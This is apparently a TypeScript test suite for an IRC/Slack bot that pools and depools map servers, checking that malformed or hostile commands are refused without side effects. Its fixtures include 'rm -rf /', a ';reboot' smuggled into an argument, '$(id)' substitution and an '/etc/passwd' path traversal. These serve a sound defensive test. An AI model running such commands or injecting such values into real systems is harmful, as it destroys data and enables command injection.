    ['<!channel> host', `${K} pool <!channel>`],
    ['Slack user mention host', `${K} pool <@U01BOB000>`],
    ['unknown flag', `${K} pool wikikube1001 --exec 'rm -rf /'`],
    ['value on a boolean', `${K} pool wikikube1001 --dry-run=false`],
    ['flag twice', `${K} pool wikikube1001 --service kartotherian-k8s-ssl --service=kartotherian`],
    ['flag with no value', `${K} pool wikikube1001 --weight`],
    ['missing host', `${K} pool`],
    ['path traversal host', `${K} pool ../../etc/passwd`],
    ['foreign domain', `${K} pool maps1005.eqiad.wmnet.evil.example --service kartotherian-ssl`],
    ['two hosts in one word', `${K} pool 'maps1005 maps1006' --service kartotherian-ssl`],
    ['option as host', `${K} pool -rf`],
    ['too many words', `${K} pool wikikube1001 ${'a '.repeat(45)}`],
    ['unclosed quote', `${K} pool wikikube1001 "unclosed`],
    ['worker in a maps-only pool', `${K} pool wikikube1001 --service kartotherian`],
    ['maps host with no service', `${K} pool maps1005`],
    ['weight on depool', `${K} depool maps1005 --service kartotherian --weight 0`],
    ['shell in --dc', `${K} status --dc 'eqiad;reboot'`],
    ['huge --limit', `${K} jobs --limit 1e9`],
    ['long help topic', `${K} help ${'x'.repeat(40)}`],
    ['shell command as command', `${K} rm -rf /`],
    ['substitution as request id', '!approve $(id)'],
    ['path as request id', '!deny ../../k7qm'],
    ['IRC colour in a deny', '!deny k7qm \u0003 nope'],
  ];

  it('has at least 25 cases', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(25);
  });

  it.each(hostile)('refuses %s with a short, clean reply and no side effect', async (_label, line) => {
    const world = setup();
    const reply = await world.say('alice', line);
    expect(reply).toBeDefined();
    expect(reply?.startsWith('✖ ')).toBe(true);
    expect(reply).not.toMatch(/^✖ ✖/);
    expect(reply).not.toMatch(UNPRINTABLE);
    expect(reply).not.toContain('<!');
    expect(reply?.length).toBeLessThanOrEqual(500);
    expect(world.unexpected).toEqual([]);
    expect(world.pooling.writes).toEqual([]);
    expect(world.queue.calls).toEqual([]);
    expect(world.requests.created).toEqual([]);
    expect(world.requests.updates).toEqual([]);
  });

  it('refuses the same lines from a person without any role, auditing nothing created', async () => {
    for (const [, line] of hostile) {
      const world = setup();
      const reply = await world.say(undefined, line, { display: 'mallory' });
      expect(reply?.startsWith('✖ '), line).toBe(true);
      expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
    }
  });

  it('leaves every conftool object exactly as seeded', async () => {
    const world = setup();
    const seeded = seedEntries(world.config.backends.pooling, shippedInventories(world.config));
    expect(seeded).toHaveLength(44); // (6 + 6 + 10) members × 2 DCs
    for (const [, line] of hostile) await world.say('alice', line);
    for (const entry of seeded) expect(world.pooling.peek(entry.path)).toEqual(entry.state);
  });
});

describe('dispatch: any line at all', () => {
  const UNPRINTABLE = /[\p{Cc}\p{Cf}\u2028\u2029]/u;
  const word = fc.oneof(
    fc.constantFrom('pool', 'depool', 'status', 'jobs', 'help', 'approve', 'deny', 'wikikube1001', 'maps1005', 'maps2010.codfw', 'req1'),
    fc.constantFrom('--service', '--weight', '--task', '--reason', '--dry-run', '--dc', '--limit', 'kartotherian-ssl', 'T378944', '5', '0', '"', "'", '--'),
    fc.constantFrom('<!channel>', 'constructor', '__proto__', 'toString', '$(id)', ';', '\u0003', '\u202e', '\r\n', '\u0000', '🗺️', 'ＡＢＣ'),
    fc.string({ unit: 'binary', maxLength: 12 }),
  );
  const line = fc.tuple(fc.constantFrom(`${K} `, '!approve ', '!deny ', `${K} pool `, `${K} depool `), fc.array(word, { maxLength: 8 })).map(([head, words]) => head + words.join(' '));

  it('never fails inside, never writes conftool, and never replies with control characters (10,000 lines)', async () => {
    await fc.assert(
      fc.asyncProperty(line, fc.constantFrom('alice', 'bob', 'dave', undefined), async (text, person) => {
        const world = setup();
        await world.say('alice', `${K} pool wikikube1002`);
        const reply = await world.say(person, text, person === undefined ? { display: 'mallory' } : {});
        expect(world.unexpected).toEqual([]);
        expect(world.pooling.writes).toEqual([]);
        if (reply === undefined) return;
        if (reply.startsWith('✖')) {
          expect(reply).not.toMatch(UNPRINTABLE);
          expect(reply.length).toBeLessThanOrEqual(500);
        } else {
          for (const replyLine of reply.split('\n')) expect(replyLine).not.toMatch(UNPRINTABLE);
        }
        expect(reply).not.toContain('<!');
      }),
      { numRuns: 10_000 },
    );
  });
});

describe('dispatch: private messages (issue 14)', () => {
  const inPrivate = (nick: string): Partial<Caller> => ({ channel: nick, display: nick, private: true });

  it('answers read-only commands in private, whole, with or without the !', async () => {
    const world = setup();
    const status = await world.say('alice', `${K} status --full`, inPrivate('alice'));
    expect(status).toMatch(/^kartotherian · pool state from/);
    expect(status?.split('\n').length).toBeGreaterThan(4);
    expect(await world.say('alice', 'kartotherian help', inPrivate('alice'))).toContain('status');
    expect(await world.say('alice', 'kartotherian jobs', inPrivate('alice'))).toBeDefined();
    // The read-only rule for strangers is the channel's: read_only anyone.
    expect(await world.say(undefined, `${K} status`, inPrivate('mallory'))).toMatch(/^kartotherian eqiad/);
    expect(await world.say(undefined, 'good morning', inPrivate('mallory'))).toBeUndefined();
  });

  it.each([
    ['pool', `${K} pool wikikube1001 new capacity`],
    ['depool', `${K} depool maps1005 --service kartotherian-ssl`],
    ['emergency-stop', `${K} emergency-stop`],
    ['approve', '!approve req1'],
    ['deny', '!deny req1 no'],
  ])('refuses %s in private, naming the channel to say it in, and files nothing', async (name, line) => {
    const world = setup({ edit: (config) => (config.transports.irc = testIrcSettings({ host: '127.0.0.1', port: 6667 } as Inspircd, '#wikimedia-operations')) });
    const reply = await world.say('alice', line, inPrivate('alice'));
    expect(reply).toBe(`✖ "${name}" is not taken in a private message: say it in #wikimedia-operations, where others can see and approve it.`);
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
    expect(world.audit.entries.at(-1)).toMatchObject({ event: 'command.refused', where: 'irc:private:alice' });
  });

  it('attacker: a stranger who PMs pool is refused and nothing is filed; the audit marks them unidentified with their account', async () => {
    const world = setup();
    const reply = await world.say(undefined, `${K} pool wikikube1001 x`, { ...inPrivate('mallory'), userId: 'mallory' });
    expect(reply).toMatch(/^✖ "pool" is not taken in a private message/);
    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
    expect(world.audit.entries).toEqual([
      { event: 'command.refused', service: 'kartotherian', who: 'mallory (unidentified irc nick)', as: 'irc account mallory', where: 'irc:private:mallory', detail: '!kartotherian pool wikikube1001 x' },
    ]);
  });

  it('refuses a reaction or click decision from a private conversation', async () => {
    const world = setup();
    await world.say('alice', `${K} pool wikikube1001 new capacity`);
    const outcome = await world.dispatch.decide({ decision: 'approve', requestId: 'req1', caller: callerFor('bob', inPrivate('bob')) });
    expect(outcome).toMatchObject({ kind: 'refused', code: 'auth.forbidden' });
    expect(world.queue.enqueued).toEqual([]);
  });

  it('classifies: a decision in private is a plain command (limited, then refused); the emergency stop in a channel is the safety path', () => {
    const world = setup();
    expect(world.dispatch.classify?.({ text: '!approve req1', caller: callerFor('bob', inPrivate('bob')) })).toEqual({ kind: 'command', name: 'approve' });
    expect(world.dispatch.classify?.({ text: `${K} emergency-stop`, caller: callerFor('alice') })).toEqual({ kind: 'command', name: 'emergency-stop', safety: true });
    expect(world.dispatch.classify?.({ text: `${K} emergency-stop`, caller: callerFor('alice', inPrivate('alice')) })).toEqual({ kind: 'command', name: 'emergency-stop' });
  });

  it('audits a change with the id the transport vouched for', async () => {
    const world = setup();
    await world.say('alice', `${K} pool wikikube1001 new capacity`, { userId: 'Alice-Account' });
    expect(world.audit.entries.find((entry) => entry.event === 'command')).toMatchObject({ who: 'alice', as: 'irc account Alice-Account' });
  });
});

describe('status: the detail goes to the asker', () => {
  it('marks --full, and --dc when longer than 4 lines, for the asker alone; the brief status is the channel’s', async () => {
    const world = setup();
    const line = (text: string) => world.dispatch.line({ text, caller: callerFor('alice') });
    expect(await line(`${K} status`)).not.toHaveProperty('audience');
    expect(await line(`${K} status --full`)).toMatchObject({ kind: 'ok', audience: 'asker' });
    const dc = await line(`${K} status --dc eqiad`);
    expect(dc).toMatchObject({ kind: 'ok' });
    const lines = dc?.kind === 'ok' ? dc.text.split('\n').length : 0;
    expect(dc).toHaveProperty('audience', lines > 4 ? 'asker' : undefined);
  });
});
